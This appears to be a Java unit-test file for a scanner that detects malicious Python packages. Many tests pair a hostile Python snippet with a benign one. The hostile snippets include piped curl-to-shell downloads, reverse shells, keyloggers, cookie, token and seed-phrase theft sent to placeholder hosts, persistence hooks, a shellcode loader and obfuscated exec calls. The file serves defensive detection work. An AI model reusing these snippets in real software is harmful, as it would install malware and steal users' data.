  void aDownloadPipedIntoPythonIsRunAsIfPipedIntoAShell() {
    String python = "import os\nos.system('wget -qO- https://a.example/p.py | python3 -')\n";
    String documented =
        "def hint():\n    return 'Install it with: curl -sSL https://a.example/i.py | python3 -'\n";

    assertThat(levelIn(python, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
    // an installation hint shown to the user runs nothing
    assertThat(check(wheelWith("pkg/hints.py", documented))).isEmpty();
  }

  @Test
  void aPickleWrittenIntoTheCodeThatCallsACommandIsAPayload() {
    String pickled =
        "import pickle\nSTATE = b\"cos\\nsystem\\n(S'id'\\ntR.\"\npickle.loads(STATE)\n";
    String data = "import pickle\nSTATE = b\"(dp0\\nS'k'\\np1\\nI1\\ns.\"\n";

    assertThat(levelIn(pickled, "pickle-calls-command")).isEqualTo(RiskLevel.HIGH);
    // a pickle of plain data calls nothing
    assertThat(check(wheelWith("pkg/state.py", data))).isEmpty();
  }

  @Test
  void aNetworkCallbackRunningItsMessageIsARemoteShell() {
    String socketApp =
        "import subprocess, websocket\n"
            + "def on_msg(ws, message):\n    ws.send(subprocess.getoutput(message))\n"
            + "websocket.WebSocketApp(URL, on_message=on_msg).run_forever()\n";
    String logged =
        "import logging, websocket\n"
            + "def on_msg(ws, message):\n    logging.info('got %s', message)\n"
            + "websocket.WebSocketApp(URL, on_message=on_msg).run_forever()\n";

    assertThat(levelIn(socketApp, "network-callback-runs")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/live.py", logged))).isEmpty();
  }

  @Test
  void pipRunFromSetupPyIsACommandAndAnAddressItInstallsIsNamed() {
    String setup =
        "import pip\nfrom setuptools import setup\n"
            + "pip.main(['install', 'https://m.example/helpers-1.0.tar.gz'])\n"
            + "setup(name='pkg')\n";
    String requirements = "import pip\npip.main(['install', '-r', 'requirements.txt'])\n";

    List<Finding> findings = check(sdistWith("pkg-2.0/setup.py", setup));

    assertThat(only(findings, "setup-runs-commands").level()).isEqualTo(RiskLevel.HIGH);
    assertThat(patternsOf(findings)).contains("installs-from-address");
    // pip given a local file installs nothing from an address
    assertThat(patternsOf(check(wheelWith("pkg/deps.py", requirements))))
        .doesNotContain("installs-from-address");
  }

  @Test
  void namesAndCodeSpelledAsCodepointsAreDecoded() {
    String byteNames =
        "from importlib import import_module\n"
            + "m = import_module(bytes([111, 115]).decode())\n"
            + "f = getattr(m, bytes([115, 121, 115, 116, 101, 109]).decode())\n"
            + "f('id')\n";
    String shifted =
        "D = [119, 121, 112, 117, 122]\n"
            + "def unpack(v):\n    return ''.join(map(chr, (x - 7 for x in v)))\n"
            + "exec(unpack(D))\n";
    String bits =
        "bits = open('LICENSE').read()\n"
            + "payload = bytes(int(bits[i : i + 8], 2) for i in range(0, len(bits), 8))\n"
            + "exec(payload.decode())\n";
    String parsed = "def parse(bits):\n    return [int(bits[i : i + 8], 2) for i in range(4)]\n";

    assertThat(levelIn(byteNames, "calls-decoded-name")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(shifted, "exec-decoded-flow")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(bits, "exec-decoded-flow")).isEqualTo(RiskLevel.CRITICAL);
    // reading binary digits runs nothing
    assertThat(check(wheelWith("pkg/bits.py", parsed))).isEmpty();
  }

  @Test
  void moreClipboardScreenAndKeyboardApisAreRecognised() {
    String kivy =
        "import requests\nfrom kivy.core.clipboard import Clipboard\n"
            + "requests.post(URL, json={'t': Clipboard.paste()})\n";
    String window =
        "import requests\nfrom pywinauto import Desktop\n"
            + "image = Desktop().windows()[0].capture_as_image()\n"
            + "requests.post(URL, files={'f': image.tobytes()})\n";
    String rawKeys =
        "import ctypes, requests\n"
            + "device = RAWINPUTDEVICE(0x01, 0x06, 0x100, hwnd)\n"
            + "ctypes.windll.user32.RegisterRawInputDevices(ctypes.byref(device), 1, 12)\n"
            + "requests.post(URL, data=collected)\n";
    String rawMouse = "device = RAWINPUTDEVICE(0x01, 0x02, 0, hwnd)\n";

    assertThat(levelIn(kivy, "clipboard-sent")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(window, "screenshot-sent")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(rawKeys, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
    // raw input from the mouse, as games read it, records no keystrokes
    assertThat(check(wheelWith("pkg/mouse.py", rawMouse))).isEmpty();
  }

  @Test
  void storedSessionsAndBrowserHistoryAreSecrets() {
    String winscp =
        "import socket, winreg\n"
            + "root = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Martin Prikryl\\WinSCP 2\\Sessions')\n"
            + "name = winreg.EnumKey(root, 0)\n"
            + "socket.create_connection(('h.example', 9)).sendall(name.encode())\n";
    String places =
        "import ftplib, os\n"
            + "db = os.path.join(BASE, 'Data', 'Browser', 'profile.default', 'places.sqlite')\n"
            + "ftplib.FTP('f.example').storbinary('STOR p', open(db, 'rb'))\n";

    assertThat(levelIn(winscp, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(places, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
  }

  @Test
  void seedPhrasesSearchedForAndSentAreTheft() {
    String seeds =
        "import re, requests\n"
            + "TWELVE = re.compile(r'^(?:[a-z]{3,8} ){11}[a-z]{3,8}$', re.M)\n"
            + "requests.post(URL, json=TWELVE.findall(text))\n";
    String validator = "import re\nTWELVE = re.compile(r'^(?:[a-z]{3,8} ){11}[a-z]{3,8}$')\n";

    assertThat(levelIn(seeds, "seed-phrases-sent")).isEqualTo(RiskLevel.HIGH);
    // a wallet that checks the phrase its user types sends nothing
    assertThat(check(wheelWith("pkg/mnemonic.py", validator))).isEmpty();
  }

  @Test
  void bootScriptsAndPowerShellProfilesAreStartUpFiles() {
    String rcLocal = "with open('/etc/rc.local', 'a') as rc:\n    rc.write(LINE)\n";
    String profile =
        "p = os.path.join(DOCS, 'WindowsPowerShell', 'Microsoft.PowerShell_profile.ps1')\n"
            + "with open(p, 'a', encoding='utf-8') as fh:\n"
            + "    fh.write('Start-Process -WindowStyle Hidden pythonw -ArgumentList agent')\n";
    String readOnly = "print(open('/etc/rc.local').read())\n";

    assertThat(levelIn(rcLocal, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(profile, "shell-profile-runs-hidden")).isEqualTo(RiskLevel.HIGH);
    // reading the boot script changes nothing
    assertThat(patternsOf(check(wheelWith("pkg/boot.py", readOnly))))
        .doesNotContain("installs-autostart");
  }

  @Test
  void aTelnetSessionIsANetworkRead() {
    String shell =
        "import os, telnetlib\ntn = telnetlib.Telnet('r.example', 2323)\n"
            + "order = tn.read_until(b'\\n').decode()\ntn.write(os.popen(order).read().encode())\n";

    assertThat(levelIn(shell, "runs-fetched")).isEqualTo(RiskLevel.HIGH);
  }

  @Test
  void theKernelsAndTheAccountsNamesAreIdentityAndAPoolManagersPostIsAnUpload() {
    String uname =
        "import json, os, pwd, urllib3\n"
            + "info = {'u': list(os.uname()), 'n': pwd.getpwuid(os.getuid()).pw_name}\n"
            + "urllib3.PoolManager().request('POST', URL, body=json.dumps(info))\n";

    assertThat(levelIn(uname, "identity-uploaded")).isEqualTo(RiskLevel.MEDIUM);
  }

  @Test
  void aRunnerScriptWrittenThroughPathlibThatDownloadsIsARunner() {
    String shim =
        "from pathlib import Path\nshim = Path.home() / '.local' / 'bin' / 'pip'\n"
            + "shim.write_text('#!/bin/sh\\ncurl -fsS https://c.example/h.sh | sh\\n')\n"
            + "shim.chmod(0o755)\n";
    String hint =
        "from pathlib import Path\n"
            + "Path('README').write_text('curl -fsS https://c.example/i.sh | sh')\n";

    assertThat(levelIn(shim, "writes-download-runner-path")).isEqualTo(RiskLevel.HIGH);
    // instructions written into a text file make nothing executable
    assertThat(patternsOf(check(wheelWith("pkg/docs.py", hint))))
        .doesNotContain("writes-download-runner-path");
  }

  @Test
  void aSweepOfTheLocalNetworkIsAScanAndItsResultsSentAreHigh() {
    String sweep =
        "import ipaddress, socket, requests\nfound = []\n"
            + "for host in ipaddress.ip_network('192.168.1.0/24').hosts():\n"
            + "    if socket.socket().connect_ex((str(host), 22)) == 0:\n"
            + "        found.append(str(host))\n"
            + "requests.post(URL, json=found)\n";
    String freePort =
        "import socket\ndef free(port):\n"
            + "    return socket.socket().connect_ex(('127.0.0.1', port)) != 0\n";

    assertThat(levelIn(sweep, "network-scan-sent")).isEqualTo(RiskLevel.HIGH);
    // checking one port of one's own host scans nothing
    assertThat(check(wheelWith("pkg/ports.py", freePort))).isEmpty();
  }

  @Test
  void ciTokensGatheredByNameAndSentAreTheft() {
    String tokens =
        "import os, requests\n"
            + "WANTED = ('GITHUB_TOKEN', 'ACTIONS_RUNTIME_TOKEN', 'CI_JOB_TOKEN', 'NPM_TOKEN')\n"
            + "requests.post(URL, json={k: os.environ[k] for k in WANTED if k in os.environ})\n";
    String one =
        "import os, requests\n"
            + "requests.get(API, headers={'Authorization': os.environ['GITHUB_TOKEN']})\n";

    assertThat(levelIn(tokens, "ci-tokens-sent")).isEqualTo(RiskLevel.HIGH);
    // a client using the one token it is given gathers nothing
    assertThat(patternsOf(check(wheelWith("pkg/gh.py", one)))).doesNotContain("ci-tokens-sent");
  }

  @Test
  void aStringTurnedRoundOrQuotedPrintableIsDecoded() {
    String reversedNames =
        "import importlib\ndef n(s):\n    return ''.join(reversed(s))\n"
            + "run = getattr(importlib.import_module(n('so')), n('metsys'))\nrun(n('di'))\n";
    String quoted = "import quopri\nexec(quopri.decodestring(BLOB).decode())\n";

    assertThat(levelIn(reversedNames, "calls-decoded-name")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(quoted, "exec-decoded-flow")).isEqualTo(RiskLevel.CRITICAL);
  }

  @Test
  void aZeroMqStringReceivedAndRunIsARemoteShell() {
    String loop =
        "import subprocess, zmq\nsock = zmq.Context().socket(zmq.REQ)\n"
            + "while True:\n    job = sock.recv_string()\n"
            + "    sock.send_string(subprocess.getoutput(job))\n";

    assertThat(levelIn(loop, "received-command")).isEqualTo(RiskLevel.HIGH);
  }

  @Test
  void theScreenAndKeyboardReadThroughCommandsAreSecrets() {
    String grab =
        "import subprocess, requests\n"
            + "subprocess.run(['ffmpeg', '-f', 'x11grab', '-i', ':0', '-frames:v', '1', out])\n"
            + "requests.put(URL, data=open(out, 'rb'))\n";
    String keys =
        "import socket, subprocess\n"
            + "proc = subprocess.Popen(['xinput', 'test-xi2', '--root'], stdout=subprocess.PIPE)\n"
            + "for line in proc.stdout:\n    conn.send(line)\n";
    String recorder =
        "import subprocess\nsubprocess.run(['ffmpeg', '-f', 'x11grab', '-i', ':0', out])\n";

    assertThat(levelIn(grab, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(keys, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    // a screen recorder that keeps its recording sends nothing
    assertThat(check(wheelWith("pkg/record.py", recorder))).isEmpty();
  }

  @Test
  void aHardwareWalletsAppDataAndProjectEnvFilesAreSecrets() {
    String ledger =
        "import os, pathlib, httpx\n"
            + "app = pathlib.Path(os.environ['APPDATA']) / 'Ledger Live' / 'app.json'\n"
            + "httpx.put(URL, content=app.read_bytes())\n";
    String dotenv =
        "import glob, requests\nfound = {}\n"
            + "for p in glob.glob('**/.env*', recursive=True):\n    found[p] = open(p).read()\n"
            + "requests.post(URL, json=found)\n";
    String loader =
        "import os\nfor line in open('.env'):\n    k, v = line.split('=', 1)\n"
            + "    os.environ[k] = v\n";

    assertThat(levelIn(ledger, "reads-and-posts")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(dotenv, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    // loading a project's .env into the environment sends nothing
    assertThat(check(wheelWith("pkg/env.py", loader))).isEmpty();
  }

  @Test
  void kdePlasmasEnvScriptsStartAtLogIn() {
    String script =
        "import os\nd = os.path.expanduser('~/.config/plasma-workspace/env')\n"
            + "with open(os.path.join(d, 'helper.sh'), 'w') as fh:\n    fh.write(LINE)\n";

    assertThat(levelIn(script, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
  }

  @Test
  void pipPointedAtAnotherIndexIsAHijackOfEveryLaterInstall() {
    String conf =
        "import configparser, os\nc = configparser.ConfigParser()\n"
            + "c.set('global', 'index-url', 'http://mirror.example/simple')\n"
            + "with open(os.path.expanduser('~/.config/pip/pip.conf'), 'w') as fh:\n"
            + "    c.write(fh)\n";
    String command =
        "import subprocess\n"
            + "subprocess.run(['pip', 'config', 'set', 'global.index-url', 'https://m.example/simple'])\n";
    String reader =
        "import configparser, os\nc = configparser.ConfigParser()\n"
            + "c.read(os.path.expanduser('~/.config/pip/pip.conf'))\n"
            + "print(c.get('global', 'index-url', fallback='https://pypi.org/simple'))\n";

    assertThat(levelIn(conf, "pip-index-redirected")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(command, "pip-index-redirected")).isEqualTo(RiskLevel.HIGH);
    // reading which index pip uses changes nothing
    assertThat(check(wheelWith("pkg/which.py", reader))).isEmpty();
  }

  @Test
  void theHomeDirectoryServedToTheNetworkIsHigh() {
    String home =
        "import functools, http.server, os\n"
            + "h = functools.partial(http.server.SimpleHTTPRequestHandler, directory=os.path.expanduser('~'))\n"
            + "http.server.ThreadingHTTPServer(('0.0.0.0', 8765), h).serve_forever()\n";
    String docs =
        "import functools, http.server\n"
            + "h = functools.partial(http.server.SimpleHTTPRequestHandler, directory='build/html')\n"
            + "http.server.HTTPServer(('127.0.0.1', 8000), h).serve_forever()\n";

    assertThat(levelIn(home, "serves-home-directory")).isEqualTo(RiskLevel.HIGH);
    // serving built documentation serves no one's files
    assertThat(check(wheelWith("pkg/preview.py", docs))).isEmpty();
  }

  @Test
  void aSetuptoolsCommandsOwnRunnerRunsCommands() {
    String spawned =
        "from setuptools import setup\nfrom setuptools.command.build_py import build_py\n\n"
            + "class B(build_py):\n    def run(self):\n"
            + "        self.spawn(['sh', '-c', 'curl -fsSL https://a.example/f.sh | sh'])\n"
            + "        super().run()\n\nsetup(name='pkg', cmdclass={'build_py': B})\n";
    String spawner = "class Pool:\n    def grow(self):\n        return self.spawn_worker()\n";

    List<Finding> findings = check(sdistWith("pkg-2.0/setup.py", spawned));

    assertThat(only(findings, "runs-piped-download").level()).isEqualTo(RiskLevel.CRITICAL);
    assertThat(only(findings, "setup-runs-commands").level()).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/pool.py", spawner))).isEmpty();
  }

  @Test
  void aFramesBuiltinsAreTheBuiltins() {
    String frame =
        "import sys, urllib.request\n_run = sys._getframe(0).f_builtins['ex' + 'ec']\n"
            + "_run(urllib.request.urlopen('https://p.example/p.py').read())\n";
    String debugger = "import sys\nframe = sys._getframe(1)\nprint(sorted(frame.f_builtins))\n";

    assertThat(levelIn(frame, "hidden-builtin-exec")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/debug.py", debugger))).isEmpty();
  }

  @Test
  void aShiftCipherIsADecoder() {
    String shifted =
        "_S = 'sulqw+*lqhuw*,'\n\ndef _load(text, k=3):\n"
            + "    return bytes(ord(c) - k for c in text).decode()\n\nexec(_load(_S))\n";
    String letters = "def column(i):\n    return chr(ord('A') + i)\n\nprint(column(3))\n";

    assertThat(levelIn(shifted, "exec-decoded-flow")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/sheet.py", letters))).isEmpty();
  }

  @Test
  void wxPythonsClipboardIsTheClipboard() {
    String swap =
        "import re, wx\nBTC = re.compile(r'^(?:bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$')\n"
            + "data = wx.TextDataObject()\n"
            + "if wx.TheClipboard.GetData(data) and BTC.match(data.GetText()):\n"
            + "    wx.TheClipboard.SetData(wx.TextDataObject(OURS))\n";
    String copy = "import wx\nwx.TheClipboard.SetData(wx.TextDataObject(report))\n";

    assertThat(levelIn(swap, "clipboard-hijack")).isEqualTo(RiskLevel.CRITICAL);
    // an editor that copies its own text to the clipboard reads nothing
    assertThat(check(wheelWith("pkg/editor.py", copy))).isEmpty();
  }

  @Test
  void aWindowsDeviceContextCopiedWithBitBltIsAScreenshot() {
    String grab =
        "import requests, win32gui, win32ui\n"
            + "src = win32ui.CreateDCFromHandle(win32gui.GetWindowDC(hwnd))\n"
            + "mem = src.CreateCompatibleDC()\nmem.BitBlt((0, 0), (w, h), src, (0, 0), SRCCOPY)\n"
            + "requests.post('https://t.example/w', files={'f': open(path, 'rb')})\n";
    String paint =
        "import win32gui\ndc = win32gui.GetWindowDC(hwnd)\nwin32gui.ReleaseDC(hwnd, dc)\n";

    assertThat(levelIn(grab, "screenshot-sent")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/paint.py", paint))).isEmpty();
  }

  @Test
  void keystrokesFromLibinputAndTheWindowsVaultAreSecrets() {
    String keys =
        "import subprocess, requests\n"
            + "p = subprocess.Popen(['libinput', 'debug-events'], stdout=subprocess.PIPE, text=True)\n"
            + "for line in p.stdout:\n    requests.post('https://k.example/b', json=line)\n";
    String vault =
        "import subprocess, requests\n"
            + "out = subprocess.run(['vaultcmd', '/listcreds:Windows Credentials'], capture_output=True).stdout\n"
            + "requests.post('https://v.example/v', data={'v': out})\n";
    String devices =
        "import subprocess\nprint(subprocess.run(['libinput', 'list-devices']).returncode)\n";

    assertThat(levelIn(keys, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(vault, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/devices.py", devices))).isEmpty();
  }

  @Test
  void aBrowsersCookiesAskedThroughItsDebuggingPortAndSentAreHigh() {
    String cookies =
        "import json, subprocess, requests, websocket\n"
            + "subprocess.Popen([chrome, '--remote-debugging-port=9222'])\n"
            + "ws = websocket.create_connection(url)\n"
            + "ws.send(json.dumps({'id': 1, 'method': 'Network.getAllCookies'}))\n"
            + "requests.post('https://b.example/c', json=json.loads(ws.recv()))\n";
    String testing =
        "import json, subprocess, websocket\n"
            + "subprocess.Popen([chrome, '--remote-debugging-port=9222'])\n"
            + "ws = websocket.create_connection(url)\n"
            + "ws.send(json.dumps({'id': 1, 'method': 'Network.getAllCookies'}))\n"
            + "assert json.loads(ws.recv())['result']['cookies'] == []\n";

    assertThat(levelIn(cookies, "devtools-cookies-sent")).isEqualTo(RiskLevel.HIGH);
    // a test of a browser driver that asks for cookies and keeps them sends nothing
    assertThat(patternsOf(check(wheelWith("pkg/test_cdp.py", testing))))
        .doesNotContain("devtools-cookies-sent");
  }

  @Test
  void anApplicationLauncherRewrittenToRunACommandLineFirstIsHigh() {
    String override =
        "import os, sys\n"
            + "apps = os.path.join(os.path.expanduser('~'), '.local', 'share', 'applications')\n"
            + "with open(os.path.join(apps, 'firefox.desktop'), 'w') as fh:\n"
            + "    fh.write('[Desktop Entry]\\nType=Application\\nName=Firefox\\n'\n"
            + "             f\"Exec=sh -c '{sys.executable} -m pkg.helper & exec firefox %u'\\n\")\n";
    String own =
        "import os\n"
            + "apps = os.path.join(os.path.expanduser('~'), '.local', 'share', 'applications')\n"
            + "with open(os.path.join(apps, 'pkg.desktop'), 'w') as fh:\n"
            + "    fh.write('[Desktop Entry]\\nType=Application\\nName=Pkg\\nExec=pkg-gui %f\\n')\n";

    assertThat(levelIn(override, "launcher-overridden")).isEqualTo(RiskLevel.HIGH);
    // an application installing its own launcher runs only itself
    assertThat(check(wheelWith("pkg/install_desktop.py", own))).isEmpty();
  }

  @Test
  void sshsRcFileIsAStartUpFile() {
    String rc =
        "import os\nrc = os.path.join(os.path.expanduser('~'), '.ssh', 'rc')\n"
            + "with open(rc, 'a') as fh:\n    fh.write('(curl -fsS https://o.example/s.sh | sh) &\\n')\n";
    String reader =
        "import os\nrc = os.path.join(os.path.expanduser('~'), '.ssh', 'rc')\n"
            + "print(os.path.exists(rc))\n";

    assertThat(levelIn(rc, "persists-and-runs")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(patternsOf(check(wheelWith("pkg/check.py", reader))))
        .doesNotContain("persists-and-runs", "installs-autostart");
  }

  @Test
  void anHttpHandlerThatRunsItsQueryServesCommands() {
    String served =
        "import subprocess\nfrom http.server import BaseHTTPRequestHandler\n"
            + "from urllib.parse import parse_qs, urlparse\n\n"
            + "class H(BaseHTTPRequestHandler):\n    def do_GET(self):\n"
            + "        order = parse_qs(urlparse(self.path).query).get('q', [''])[0]\n"
            + "        self.wfile.write(subprocess.getoutput(order).encode())\n";
    String repo =
        "import subprocess\n\nclass Repo:\n    def head(self):\n"
            + "        return subprocess.check_output(['git', '-C', self.path, 'rev-parse', 'HEAD'])\n";

    assertThat(levelIn(served, "serves-commands")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/repo.py", repo))).isEmpty();
  }

  @Test
  void machineIdsSentAreIdentitySent() {
    String ids =
        "import requests\nids = {}\n"
            + "for path in ('/etc/machine-id', '/sys/class/dmi/id/product_uuid'):\n"
            + "    with open(path) as fh:\n        ids[path] = fh.read().strip()\n"
            + "requests.post('https://l.example/activate', json=ids)\n";
    String local = "with open('/etc/machine-id') as fh:\n    MACHINE = fh.read().strip()\n";

    assertThat(levelIn(ids, "identity-uploaded")).isEqualTo(RiskLevel.MEDIUM);
    assertThat(check(wheelWith("pkg/machine.py", local))).isEmpty();
  }

  @Test
  void executableMemoryStartedAsAThreadIsAShellcodeLoader() {
    String loader =
        "import ctypes, urllib.request\nbuf = urllib.request.urlopen(U).read()\n"
            + "k32 = ctypes.windll.kernel32\naddr = k32.VirtualAlloc(None, len(buf), 0x3000, 0x40)\n"
            + "ctypes.memmove(addr, buf, len(buf))\n"
            + "t = k32.CreateThread(None, 0, ctypes.c_void_p(addr), None, 0, None)\n";
    String wrappers =
        "def VirtualAllocEx(hProcess, lpAddress=0, dwSize=0x1000, flProtect=PAGE_EXECUTE_READWRITE):\n"
            + "    return _VirtualAllocEx(hProcess, lpAddress, dwSize, flProtect)\n\n"
            + "def CreateRemoteThread(hProcess, lpStartAddress, lpParameter):\n"
            + "    return _CreateRemoteThread(hProcess, None, 0, lpStartAddress, lpParameter, 0, None)\n";
    String buffer =
        "import ctypes\nk32 = ctypes.windll.kernel32\n"
            + "addr = k32.VirtualAlloc(None, size, 0x3000, 0x04)\n"
            + "t = k32.CreateThread(None, 0, worker, None, 0, None)\n";

    assertThat(levelIn(loader, "runs-downloaded-shellcode")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(patternsOf(check(wheelWith("pkg/loader.py", loader)))).contains("shellcode-loader");
    // read-write memory and a thread of its own are no loader
    assertThat(check(wheelWith("pkg/buffers.py", buffer))).isEmpty();
    // nor is a debugger's module that wraps the Windows API (debugpy's winappdbg)
    assertThat(check(wheelWith("pkg/win32/kernel32.py", wrappers))).isEmpty();
  }

  @Test
  void theMicrophoneRecordedAndSentIsHigh() {
    String listen =
        "import requests\nimport sounddevice as sd\n"
            + "audio = sd.rec(int(30 * 16000), samplerate=16000, channels=1)\n"
            + "requests.post('https://p.example/a', data=audio.tobytes())\n";
    String recorder =
        "import sounddevice as sd\n"
            + "stream = sd.InputStream(samplerate=24000, channels=1, callback=on_audio)\n";
    String player = "import sounddevice as sd\nsd.play(tone, 44100)\nsd.wait()\n";

    assertThat(levelIn(listen, "microphone-sent")).isEqualTo(RiskLevel.HIGH);
    assertThat(
            only(
                    checkClaiming(
                        "Convert colours between hex and RGB", wheelWith("pkg/p.py", listen)),
                    "capability-off-purpose")
                .level())
        .isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/player.py", player))).isEmpty();
    // speech recognition and voice helpers record by design (openai, pocketsphinx)
    assertThat(check(wheelWith("pkg/voice.py", recorder))).isEmpty();
  }

  @Test
  void aProcessFunctionHandedToASetuptoolsCommandsRunnerRunsCommands() {
    String executed =
        "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n"
            + "class I(install):\n    def run(self):\n"
            + "        self.execute(os.system, ('curl -fsSL https://a.example/r.sh | sh',), 'runtime')\n"
            + "        install.run(self)\n\nsetup(name='pkg', cmdclass={'install': I})\n";
    String query = "class Store:\n    def rows(self, sql):\n        return self.execute(sql, ())\n";

    List<Finding> findings = check(sdistWith("pkg-2.0/setup.py", executed));

    assertThat(only(findings, "install-hook-runs-code").level()).isEqualTo(RiskLevel.CRITICAL);
    assertThat(only(findings, "setup-runs-commands").level()).isEqualTo(RiskLevel.HIGH);
    // a database helper's own execute runs a query, not a program
    assertThat(check(wheelWith("pkg/store.py", query))).isEmpty();
  }

  @Test
  void aScreenshotAskedOfTheDesktopOverDBusAndSentIsCritical() {
    String shell =
        "import dbus, requests\nbus = dbus.SessionBus()\n"
            + "s = bus.get_object('org.gnome.Shell.Screenshot', '/org/gnome/Shell/Screenshot')\n"
            + "s.Screenshot(False, False, '/tmp/s.png', dbus_interface='org.gnome.Shell.Screenshot')\n"
            + "requests.put('https://p.example/s', data=open('/tmp/s.png', 'rb').read())\n";
    String notifier =
        "import dbus\nbus = dbus.SessionBus()\n"
            + "n = bus.get_object('org.freedesktop.Notifications', '/org/freedesktop/Notifications')\n";

    assertThat(levelIn(shell, "screenshot-sent")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/notify.py", notifier))).isEmpty();
  }

  @Test
  void mouseClicksRecordedAndSentAreHigh() {
    String clicks =
        "import requests\nfrom pynput import mouse\n\ndef on_click(x, y, b, pressed):\n"
            + "    requests.post('https://h.example/c', json=[x, y])\n\n"
            + "with mouse.Listener(on_click=on_click) as l:\n    l.join()\n";
    String mover = "from pynput import mouse\nmouse.Controller().position = (10, 20)\n";

    assertThat(levelIn(clicks, "mouse-clicks-sent")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/move.py", mover))).isEmpty();
  }

  @Test
  void fishsConfDFolderIsAStartUpFolder() {
    String fish =
        "import os\nconf = os.path.join(os.path.expanduser('~'), '.config', 'fish', 'conf.d')\n"
            + "with open(os.path.join(conf, 'p.fish'), 'w') as fh:\n"
            + "    fh.write('curl -fsS https://t.example/f | source &\\n')\n";
    String completions =
        "import os\nout = os.path.join(os.path.expanduser('~'), '.config', 'fish', 'completions')\n"
            + "with open(os.path.join(out, 'tool.fish'), 'w') as fh:\n"
            + "    fh.write('complete -c tool -l help\\n')\n";

    assertThat(levelIn(fish, "persists-and-runs")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/complete.py", completions))).isEmpty();
  }

  @Test
  void dataCutIntoPingPaddingIsACovertChannel() {
    String ping =
        "import getpass, subprocess\nwho = getpass.getuser().encode().hex()\n"
            + "for i in range(0, len(who), 32):\n"
            + "    subprocess.run(['ping', '-c', '1', '-p', who[i:i + 32], '10.0.0.9'])\n";
    String probe = "import subprocess\nsubprocess.run(['ping', '-c', '1', '-p', 'ff', host])\n";

    assertThat(levelIn(ping, "ping-chunks")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(ping, "identity-in-ping")).isEqualTo(RiskLevel.HIGH);
    // a fixed fill pattern is a network test
    assertThat(check(wheelWith("pkg/probe.py", probe))).isEmpty();
  }

  @Test
  void mshtaGivenAnAddressByKeywordRunsWhatItServes() {
    String hta = "import os\nos.startfile('mshta.exe', arguments='https://h.example/w.hta')\n";
    String local = "import os\nos.startfile('mshta.exe', arguments=local_help_path)\n";

    assertThat(levelIn(hta, "runs-remote-script-host")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/help.py", local))).isEmpty();
  }

  @Test
  void theEnvironmentAsBytesIsTheEnvironment() {
    String environb =
        "import json, os, urllib.request\n"
            + "env = {k.decode(): v.decode() for k, v in os.environb.items()}\n"
            + "urllib.request.urlopen(urllib.request.Request('https://g.example/g',"
            + " data=json.dumps(env).encode()))\n";
    String home = "import os\nhome = os.environb.get(b'HOME', b'/')\n";

    assertThat(levelIn(environb, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/paths.py", home))).isEmpty();
  }

  @Test
  void callsInsideAnFStringsFieldsAreCode() {
    String label =
        "import getpass, platform, requests\n"
            + "label = f'{getpass.getuser()}.{platform.node()}'.encode().hex()\n"
            + "requests.get('https://r.example/resolve', params={'name': f'{label}.t.example'})\n";
    String greeting = "import getpass\nprint(f'Hello {getpass.getuser()}, {{braces}} stay text')\n";

    assertThat(levelIn(label, "identity-uploaded")).isEqualTo(RiskLevel.MEDIUM);
    // the user's name shown to the user is sent nowhere
    assertThat(check(wheelWith("pkg/hello.py", greeting))).isEmpty();
  }

  @Test
  void callsInsideATemplateStringsFieldsAreCodeToo() {
    String template =
        "import os\n_t = t\"{os.system(bytes.fromhex('6375726c202d73').decode() + cmd)}\"\n";

    // Python 3.14 runs a t-string's fields when the template is built
    assertThat(levelIn(template, "runs-decoded")).isEqualTo(RiskLevel.HIGH);
  }

  @Test
  void aComShellRunningADownloadedProgramIsCritical() {
    String shell =
        "import win32com.client\nsh = win32com.client.Dispatch('WScript.Shell')\n"
            + "sh.Run(r'cmd /c bitsadmin /transfer j https://u.example/u.exe %TEMP%\\u.exe', 0)\n";
    String excel = "import win32com.client\nxl = win32com.client.Dispatch('Excel.Application')\n";

    assertThat(levelIn(shell, "downloads-executable")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/report.py", excel))).isEmpty();
  }

  @Test
  void aCallOfACommandRunnerBuiltAsASyntaxTreeAndRunIsHigh() {
    String tree =
        "import ast\n"
            + "call = ast.Call(func=ast.Attribute(value=ast.Name(id='os', ctx=ast.Load()),"
